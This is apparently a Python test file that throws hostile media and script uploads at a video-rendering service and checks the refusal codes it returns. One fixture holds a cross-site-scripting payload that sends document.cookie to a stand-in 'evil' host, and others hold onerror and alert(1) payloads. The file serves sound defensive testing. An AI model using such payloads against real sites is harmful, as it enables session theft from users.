"""Files: hostile media uploaded as source videos (each refused with its stable probe code) and hostile
scripts, uploaded and as ``startRender(scriptText)``. A refused file may leave the attacker's own upload
and failed-asset rows; the storage counter and everything else stay exactly as they were."""

from __future__ import annotations

from tests.hostile.corpus import Case, Ctx, E
from tests.hostile.hostile_media import MEDIA, clip, media_bytes

REFUSED_FILE = frozenset({"uploads", "assets"})
NOT_MEDIA = ("NOT_MEDIA", "CORRUPT_MEDIA", "UNSUPPORTED_MEDIA", "NO_VIDEO_STREAM")
EXPECT: dict[str, tuple[str, ...]] = {
    "audio-only": ("NO_VIDEO_STREAM",),
    "many-audio-streams": ("NO_VIDEO_STREAM", "UNSUPPORTED_MEDIA"),
    "y4m-100000-by-1": ("BAD_DIMENSIONS", "UNSUPPORTED_MEDIA", "CORRUPT_MEDIA"),
    "gif-js-polyglot": ("BAD_DIMENSIONS", *NOT_MEDIA),
    "y4m-16k-by-16k": ("NOT_MEDIA", "BAD_DIMENSIONS", "UNSUPPORTED_MEDIA", "CORRUPT_MEDIA"),
    "jpeg-16000-by-16000": ("BAD_DIMENSIONS", "UNSUPPORTED_MEDIA", "CORRUPT_MEDIA", "NOT_MEDIA", "ZERO_DURATION"),
    "png-16k-by-16k": ("BAD_DIMENSIONS", "UNSUPPORTED_MEDIA", "CORRUPT_MEDIA", "NOT_MEDIA", "ZERO_DURATION"),
    "duration-136-years": ("UNSUPPORTED_MEDIA", "CORRUPT_MEDIA", "INVALID_INPUT"),
    "timescale-zero": ("ZERO_DURATION", "CORRUPT_MEDIA", "UNSUPPORTED_MEDIA"),
}


PROBE_DEFECT = ("found by the corpus, owner: media/probe (the declared duration is not checked against the packets: "
                "a 1 s clip declaring {} is taken as a long source)")
XFAIL = {"duration-136-years": PROBE_DEFECT.format("2^32 s (ffmpeg reads 3.3 h)"),
         "timescale-zero": PROBE_DEFECT.format("timescale 0 (ffmpeg reads 1000 s)")}


def _media(name: str) -> Case:
    async def run(ctx: Ctx) -> str:
        return await ctx.upload_file(media_bytes(name))
    return Case(f"media-{name}", "media", run, EXPECT.get(name, NOT_MEDIA), changes=REFUSED_FILE,
                xfail=XFAIL.get(name))


async def _empty(ctx: Ctx) -> str:
    return await ctx.upload_file(b"")


def _script(case_id: str, data: bytes, expect: tuple[str, ...], *, accepted: bool = False,
            xfail: str | None = None) -> Case:
    async def run(ctx: Ctx) -> str:
        return await ctx.upload_file(data, kind="script", filename="script.txt")
    # An accepted script is the attacker's own new asset (and storage): still nothing of the victim's.
    changes = REFUSED_FILE | ({"usage_counters"} if accepted else frozenset())
    return Case(case_id, "script", run, expect, changes=changes, xfail=xfail)


CASES: list[Case] = [
    *(_media(name) for name in MEDIA),
    Case("media-empty-file", "media", _empty, ("EMPTY_FILE",), changes=REFUSED_FILE),
    _script("script-upload-video-bytes", b"", ("SCRIPT_BINARY",)),  # replaced below (needs the clip)
    _script("script-upload-binary", bytes(range(256)) * 64, ("SCRIPT_BINARY", "SCRIPT_INVALID")),
    _script("script-upload-10mb", b"A line of text.\n\n" * (10 * 1024 * 1024 // 17), ("SCRIPT_TOO_LARGE",)),
    _script("script-upload-million-blank-lines", b"\n" * 1_000_000, ("SCRIPT_EMPTY",)),
    _script("script-upload-headings-only", b"# Chapter one\n\n# Chapter two\n", ("SCRIPT_EMPTY",),
            xfail="found by the corpus, owner: upload validation (a script of headings only is taken at upload; "
                  "the script stage fails it later with SCRIPT_EMPTY)"),
    _script("script-upload-nul", b"Hello\x00world\n", ("SCRIPT_BINARY", "SCRIPT_INVALID")),
    _script("script-upload-utf16", "Hello world\n".encode("utf-16"), ("SCRIPT_BINARY", "SCRIPT_INVALID")),
    _script("script-upload-bad-utf8", b"caf\xe9 \xff\xfe\n", ("SCRIPT_INVALID", "SCRIPT_BINARY")),
    # One 1 MB paragraph is a (long) script: taken at upload; the script stage judges its beats.
    _script("script-upload-one-huge-beat", b"word " * 200_000, ("OK", "BEAT_TOO_LONG"), accepted=True),
    _script("script-upload-rtl-override", "The hero \u202eflies home\u202c.\n".encode(), ("OK", "SCRIPT_INVALID"),
            accepted=True),
    _script("script-upload-html-js", b"<script>fetch('//evil/'+document.cookie)</script>\n\n<img src=x onerror=1>\n",
            ("OK",), accepted=True),
]


def _video_as_script() -> Case:
    async def run(ctx: Ctx) -> str:
        return await ctx.upload_file(clip(), kind="script", filename="script.txt")
    return Case("script-upload-video-bytes", "script", run, ("SCRIPT_BINARY", "SCRIPT_INVALID"), changes=REFUSED_FILE)


def _render_text(case_id: str, text: str, expect: tuple[str, ...], xfail: str | None = None, *,
                 bare: bool = True) -> Case:
    """startRender by an editor: on a project without a ready source (refused either way, nothing starts), or
    (``bare=False``) on the attacker's project with a ready source, where only the text can refuse it."""
    async def run(ctx: Ctx) -> str:
        query = "mutation($p: ID!, $t: String) { startRender(projectId: $p, options: {scriptText: $t}) { " + E + " } }"
        project = ctx.scratch["bare_project"] if bare else str(ctx.a.project.id)
        return await ctx.gql(query, {"p": project, "t": text})
    return Case(case_id, "script", run, expect, xfail=xfail)


HTTP_DEFECT = "fixed on branch http: NUL characters in startRender scriptText give 'Unexpected error'"
CASES = [_video_as_script() if c.id == "script-upload-video-bytes" else c for c in CASES] + [
    _render_text("script-text-nul", "Hello\x00world", ("VALIDATION_FAILED",), bare=False),
    _render_text("script-text-over-2mb", "x" * (2 * 1024 * 1024 + 10), ("REQUEST_TOO_LARGE",)),
    _render_text("script-text-rtl", "The hero \u202eflies home.", ("VALIDATION_FAILED",)),
    _render_text("script-text-html", "<script>alert(1)</script>", ("VALIDATION_FAILED",)),
    _render_text("script-text-blank-lines", "\n" * 30_000, ("VALIDATION_FAILED",)),
]
